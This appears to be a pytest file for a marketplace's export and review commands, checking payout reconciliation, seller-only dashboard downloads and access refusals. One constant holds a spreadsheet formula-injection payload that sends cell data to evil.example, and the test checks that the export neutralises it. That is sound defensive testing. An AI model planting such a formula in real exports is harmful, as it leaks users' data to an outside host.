"""`souk export` and the seller dashboard's export downloads (issue 12), against the real binary,
and `souk review list|hide|show`.

The money comes from a Stripe-taking marketplace (`fake_stripe.py`): real orders of two sellers,
one partly refunded, one disputed, beside test-provider and unpaid orders that payouts never count.
The export's order lines must add up to exactly what `souk payouts --json` prints.
"""
import csv
import io
import json
from collections import defaultdict

import requests

from fake_stripe import deliver, dispute, event, fake_stripe  # noqa: F401  (fake_stripe is a fixture)
from shop_helpers import add_to_cart, checkout, outcome, placed, wait_status
from test_catalog_api import api_account, cli_account
from test_hardening_access import pay_with_test_provider
from test_money_path import Shop

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
TABLES = ["products", "orders", "customers", "reviews", "licenses", "payouts"]
PAID_UP = {"paid", "fulfilled", "completed"}


def read_csv(path) -> list[dict]:
    raw = path.read_bytes()
    assert_crlf(raw, path.name)
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def assert_crlf(raw: bytes, what: str):
    """Every record ends in CRLF (these tables hold no multi-line text, so no bare LF at all)."""
    assert raw.endswith(b"\r\n"), f"{what} does not end with CRLF"
    assert raw.count(b"\n") == raw.count(b"\r\n"), f"{what} has a line ending that is not CRLF"


def owed_by_lines(rows: list[dict]) -> dict:
    """Per (seller e-mail, currency): owed and on hold, summed from the counted order lines."""
    sums = defaultdict(lambda: {"owed": 0, "on_hold": 0, "gross": 0, "fees": 0, "refunds": 0})
    for row in rows:
        assert row["counts_in_payouts"] in ("true", "false"), row
        if row["counts_in_payouts"] != "true":
            continue
        key = (row["seller_email"], row["currency"])
        sums[key]["owed"] += int(row["payout_owed_minor"])
        sums[key]["on_hold"] += int(row["payout_on_hold_minor"])
        sums[key]["gross"] += int(row["amount_minor"])
        sums[key]["fees"] += int(row["fee_minor"])
        sums[key]["refunds"] += int(row["refund_share_minor"])
    return dict(sums)


def owed_by_payouts(balances: list[dict]) -> dict:
    return {
        (b["seller_email"], b["currency"]): {
            "owed": b["owed"], "on_hold": b["on_hold"], "gross": b["gross"], "fees": b["fees"], "refunds": b["refunds"]}
        for b in balances
    }


def dashboard_file(account, souk, name: str) -> requests.Response:
    return account.session.get(souk.url(f"/dashboard/export/{name}"), allow_redirects=False)


def test_export_reconciles_with_payouts_guards_formulas_and_limits_sellers_to_their_data(make_souk, fake_stripe, tmp_path):
    # Given a marketplace taking Stripe, with test payments also offered, and two sellers.
    shop = Shop(make_souk, fake_stripe, SOUK_PAYMENTS_TEST_ENABLED="true")
    souk = shop.souk
    evil = shop.alice.create(EVIL_TITLE, publish=True, price=1999)
    plain = shop.alice.create('Plain, "quoted" book', publish=True, price=1001)
    keys = shop.alice.create("Pixel Editor", publish=True, kind="license", category="Software", price=2500,
                             activation_limit=2)
    course = shop.bob.create("Bob's Course", publish=True, price=4550)
    buyer = api_account(souk, "buyer", "buyer@example.com")
    other = api_account(souk, "buyer", "other@example.com")

    # Real money: an order with both sellers' lines, later refunded in part (shared across lines);
    # an order of Alice's license; a disputed order of Bob's (on hold).
    both, _ = shop.paid_order(buyer, evil, plain, course)
    refunded = shop.admin.session.post(souk.url(f"/api/v1/orders/{both['id']}/refund"), json={"amount": 1234})
    assert refunded.status_code == 200, refunded.text
    shop.paid_order(other, keys)
    disputed, intent = shop.paid_order(other, course)
    assert outcome(deliver(souk, event("charge.dispute.created", dispute(intent, 4550, "needs_response")))) == "applied"
    assert wait_status(souk, other.session, disputed["id"], {"disputed"})["status"] == "disputed"
    # No money: a test-provider order and an order never paid.
    test_order = pay_with_test_provider(souk, other.session, course["id"])
    wait_status(souk, other.session, test_order, PAID_UP)
    add_to_cart(souk, buyer.session, plain["id"])
    unpaid = placed(checkout(souk, buyer.session, key="never-paid"))

    payouts = json.loads(souk.cli("payouts", "--json").stdout)
    assert {b["seller_email"] for b in payouts} == {"alice@example.com", "bob@example.com"}
    assert any(b["on_hold"] > 0 for b in payouts) and any(b["refunds"] > 0 for b in payouts)

    # When the operator exports the store.
    out = tmp_path / "export" / "nested"
    result = souk.cli("export", str(out))
    for table in TABLES:
        assert (out / f"{table}.csv").exists() and (out / f"{table}.json").exists(), table
        assert table in result.stdout
    assert "12 files" in result.stdout and "orders 7 rows" in result.stdout, result.stdout

    # Then the counted order lines add up to `souk payouts`, and so does payouts.csv.
    orders = read_csv(out / "orders.csv")
    assert owed_by_lines(orders) == owed_by_payouts(payouts)
    payouts_csv = read_csv(out / "payouts.csv")
    assert {(r["seller_email"], r["currency"]): int(r["owed_minor"]) for r in payouts_csv} == {
        (b["seller_email"], b["currency"]): b["owed"] for b in payouts}
    assert {(r["seller_email"], r["currency"]): (r["owed_minor"], r["on_hold_minor"])
            for r in json.loads((out / "payouts.json").read_text())} == {
        (b["seller_email"], b["currency"]): (b["owed"], b["on_hold"]) for b in payouts}
    counted = {row["order_id"]: row["counts_in_payouts"] for row in orders}
    assert counted[test_order] == "false" and counted[unpaid["id"]] == "false" and counted[both["id"]] == "true"
    line = next(r for r in orders if r["order_id"] == both["id"] and r["title"] == "Bob's Course")
    assert (line["amount_minor"], line["amount"], line["currency"]) == ("4550", "45.50", "USD")
    assert line["created_at"].endswith("Z") and "T" in line["created_at"]
    assert sum(int(r["refund_share_minor"]) for r in orders if r["order_id"] == both["id"]) == 1234

    # The JSON has the same rows and fields, minor units as integers.
    orders_json = json.loads((out / "orders.json").read_text())
    assert len(orders_json) == len(orders) and set(orders_json[0]) == set(orders[0])
    assert all(isinstance(r["payout_owed_minor"], int) and isinstance(r["counts_in_payouts"], bool) for r in orders_json)

    # A title that is a formula stays text in the CSV (a leading '), and is itself in the JSON.
    products = read_csv(out / "products.csv")
    titles = {r["id"]: r["title"] for r in products}
    assert titles[evil["id"]] == "'" + EVIL_TITLE
    assert titles[plain["id"]] == 'Plain, "quoted" book'
    assert next(r for r in products if r["id"] == evil["id"])["price_minor"] == "1999"
    assert {r["id"]: r["title"] for r in json.loads((out / "products.json").read_text())}[evil["id"]] == EVIL_TITLE
    assert next(r for r in orders if r["product_id"] == evil["id"])["title"] == "'" + EVIL_TITLE

    customers = {r["email"]: r for r in read_csv(out / "customers.csv")}
    assert set(customers) == {"buyer@example.com", "other@example.com"}, "the unpaid order makes no customer"
    assert customers["other@example.com"]["paid_orders"] == "3"
    licenses = read_csv(out / "licenses.csv")
    assert [(r["product_id"], r["buyer_email"], r["status"]) for r in licenses] == [
        (keys["id"], "other@example.com", "inactive")]

    # Existing export files are never replaced without --force.
    again = souk.cli("export", str(out), check=False)
    assert again.returncode != 0 and "--force" in again.stderr and "orders.csv" in again.stderr
    souk.cli("export", str(out), "--force")

    # One seller's export: only their lines, adding up to their payouts.
    alice_dir = tmp_path / "alice"
    souk.cli("export", str(alice_dir), "--seller", "alice@example.com")
    alice_orders = read_csv(alice_dir / "orders.csv")
    assert {r["seller_email"] for r in alice_orders} == {"alice@example.com"}
    assert owed_by_lines(alice_orders) == owed_by_payouts([b for b in payouts if b["seller_email"] == "alice@example.com"])
    assert course["id"] not in {r["id"] for r in read_csv(alice_dir / "products.csv")}
    by_id = souk.cli("export", str(tmp_path / "alice-by-id"), "--seller", shop.alice.id)
    assert by_id.returncode == 0
    unknown = souk.cli("export", str(tmp_path / "x"), "--seller", "nobody@example.com", check=False)
    assert unknown.returncode != 0 and "nobody@example.com" in unknown.stderr and "souk seller list" in unknown.stderr
    a_buyer = souk.cli("export", str(tmp_path / "y"), "--seller", "buyer@example.com", check=False)
    assert a_buyer.returncode != 0 and "buyer" in a_buyer.stderr

    # The dashboard offers the same files to the seller, for their own data only.
    page = shop.alice.session.get(souk.url("/dashboard/export"))
    assert page.status_code == 200 and "/dashboard/export/orders.csv" in page.text
    assert 'id="export-link"' in shop.alice.session.get(souk.url("/dashboard")).text
    for table in TABLES:
        response = dashboard_file(shop.alice, souk, f"{table}.csv")
        assert response.status_code == 200, (table, response.status_code, response.text[:300])
        assert response.headers["Content-Type"].startswith("text/csv")
        assert response.headers["Content-Disposition"].startswith("attachment;"), response.headers
        assert_crlf(response.content, table)
        assert response.content == (alice_dir / f"{table}.csv").read_bytes(), (
            f"{table}.csv from the dashboard differs from `souk export --seller`")
        as_json = dashboard_file(shop.alice, souk, f"{table}.json")
        assert as_json.status_code == 200 and as_json.headers["Content-Type"].startswith("application/json")
        assert isinstance(as_json.json(), list)
    served = list(csv.DictReader(io.StringIO(dashboard_file(shop.alice, souk, "orders.csv").text, newline="")))
    assert {r["seller_email"] for r in served} == {"alice@example.com"}
    assert course["id"] not in dashboard_file(shop.alice, souk, "products.csv").text
    assert "Bob's Course" not in dashboard_file(shop.alice, souk, "orders.csv").text
    bob_products = list(csv.DictReader(io.StringIO(dashboard_file(shop.bob, souk, "products.csv").text, newline="")))
    assert [r["id"] for r in bob_products] == [course["id"]]
    assert dashboard_file(shop.alice, souk, "secrets.csv").status_code == 404
    assert dashboard_file(shop.alice, souk, "orders.xlsx").status_code == 404

    # A buyer is refused as on every dashboard page; anonymous visitors are sent to sign in.
    for path in ("/dashboard/export", "/dashboard/export/orders.csv"):
        refused = buyer.session.get(souk.url(path), allow_redirects=False)
        assert refused.status_code == buyer.session.get(souk.url("/dashboard/sales"), allow_redirects=False).status_code
        assert refused.status_code == 403 and "order_id" not in refused.text
        anonymous = requests.get(souk.url(path), allow_redirects=False)
        assert anonymous.status_code == 303 and anonymous.headers["Location"].startswith("/signin")


def test_operator_lists_hides_and_shows_reviews_and_the_rating_follows(make_souk):
    souk = make_souk(env={"SOUK_STORE_MARKETPLACE": "true", "SOUK_JOBS_POLL_MILLISECONDS": "50",
                          "SOUK_LIMITS_SIGNUP_PER_IP_PER_HOUR": "0", "SOUK_LIMITS_REQUESTS_PER_IP_PER_MINUTE": "0"})
    seller = cli_account(souk, "seller", "maker@example.com")
    atlas = seller.create("Moth Atlas", publish=True, price=1500)
    ratings = {}
    for email, stars in (("fan@example.com", 5), ("critic@example.com", 1)):
        reader = api_account(souk, "buyer", email)
        wait_status(souk, reader.session, pay_with_test_provider(souk, reader.session, atlas["id"]), PAID_UP)
        written = reader.session.post(souk.url(f"/api/v1/products/{atlas['id']}/reviews"),
                                      json={"rating": stars, "body": f"{stars} stars"})
        assert written.status_code == 201, written.text
        ratings[stars] = written.json()["id"]

    def rating():
        body = requests.get(souk.url(f"/api/v1/products/{atlas['id']}")).json()
        return body["rating_average"], body["rating_count"]

    assert rating() == (3, 2)
    listed = json.loads(souk.cli("review", "list", "--product", atlas["id"], "--json").stdout)
    assert {r["id"]: r["state"] for r in listed} == {ratings[5]: "visible", ratings[1]: "visible"}
    assert ratings[1] in souk.cli("review", "list").stdout

    # Hiding the one-star review: it stops counting at once, as the admin's PATCH does.
    hidden = souk.cli("review", "hide", ratings[1])
    assert ratings[1] in hidden.stdout and "5.00 from 1 review" in hidden.stdout
    assert rating() == (5, 1)
    public = requests.get(souk.url(f"/api/v1/products/{atlas['id']}/reviews")).json()
    assert [r["id"] for r in public["data"]] == [ratings[5]]
    assert [r["id"] for r in json.loads(souk.cli("review", "list", "--hidden", "--json").stdout)] == [ratings[1]]

    # Showing it again: counted again.
    souk.cli("review", "show", ratings[1])
    assert rating() == (3, 2)
    assert json.loads(souk.cli("review", "list", "--hidden", "--json").stdout) == []

    # Unknown ids: what failed, for which id, what to do; a non-zero exit status.
    for command in (("review", "hide", "rev_nope"), ("review", "show", "rev_nope")):
        failed = souk.cli(*command, check=False)
        assert failed.returncode != 0 and "rev_nope" in failed.stderr and "souk review list" in failed.stderr
    missing = souk.cli("review", "list", "--product", "prod_nope", check=False)
    assert missing.returncode != 0 and "prod_nope" in missing.stderr and "souk product list" in missing.stderr
    assert rating() == (3, 2)
